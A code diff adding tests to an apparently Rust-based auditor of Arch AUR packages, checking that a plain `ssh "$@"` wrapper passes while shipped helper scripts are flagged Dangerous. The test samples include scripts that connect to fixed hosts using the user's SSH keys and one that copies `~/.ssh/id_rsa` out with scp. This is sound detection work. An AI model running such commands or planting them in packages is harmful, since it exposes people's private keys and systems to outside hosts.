@@ -4,7 +4,7 @@
 //! shape); the attack each rule exists for is asserted beside it. The test set's figures stay the
 //! ones taken at the look: these fixes are measured on the development set only.
 
-use archgate_aur::audit::{AuditInput, AuditReport, Severity, Verdict, audit};
+use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};
 
 fn max_of(r: &AuditReport, id: &str) -> Option<Severity> {
     r.findings
@@ -54,4 +54,57 @@ fn a_live_system_path_in_package_is_still_a_write_to_the_system() {
         r.to_text()
     );
     assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+}
+
+// Class: a shipped program that hands its own arguments to `ssh` was read as the package using
+// the person's SSH keys. What the wrapper does is what its caller asks (`exec ssh "$@"`), when
+// the caller runs it, like `ssh` itself; SSH to a host the package chose stays high.
+
+fn shipping(pkgname: &str, helper: &str, helper_text: &str) -> AuditInput {
+    AuditInput {
+        pkgbuild: format!(
+            "pkgname={pkgname}\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/{pkgname}\"\nlicense=('BSD')\noptdepends=('openssh: remote launch')\nsource=(\"https://example.org/{pkgname}-$pkgver.tar.gz\" {helper})\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000' '1111111111111111111111111111111111111111111111111111111111111111')\npackage() {{\n  cd {pkgname}-$pkgver\n  make DESTDIR=\"$pkgdir\" install\n  install -vDm 755 ../{helper} -t \"$pkgdir/usr/bin/\"\n}}\n"
+        ),
+        install_scripts: vec![ScriptFile {
+            name: helper.into(),
+            content: helper_text.into(),
+        }],
+        srcinfo: None,
+    }
+}
+
+#[test]
+fn a_shipped_wrapper_passing_its_arguments_to_ssh_is_not_the_package_using_ssh() {
+    // Shape: an MPI runtime shipping a one-line `NAME-ssh` launcher so openssh can stay an
+    // optional dependency (Artix world's prrte).
+    let r = audit(&shipping(
+        "mpirun-rt",
+        "mpirun-rt-ssh",
+        "#!/bin/sh\n# openssh stays optional: the launch agent is always this wrapper\nexec /usr/bin/ssh \"$@\"\n",
+    ));
+    assert!(
+        max_of(&r, "AUR-SSH").is_none_or(|s| s <= Severity::Low),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+}
+
+#[test]
+fn a_shipped_program_sshing_to_a_host_it_chose_is_still_high() {
+    // The attack: a shipped helper that connects to a fixed host with the person's keys.
+    for body in [
+        "#!/bin/sh\nexec /usr/bin/ssh collector@203.0.113.9 \"$@\"\n",
+        "#!/bin/sh\nssh -i ~/.ssh/id_ed25519 \"$@\" collector.example.net true\n",
+        "#!/bin/sh\nscp \"$HOME/.ssh/id_rsa\" \"$@\"\n",
+    ] {
+        let r = audit(&shipping("mpirun-rt", "mpirun-rt-ssh", body));
+        assert_eq!(
+            max_of(&r, "AUR-SSH"),
+            Some(Severity::High),
+            "{body}\n{}",
+            r.to_text()
+        );
+        assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+    }
 }
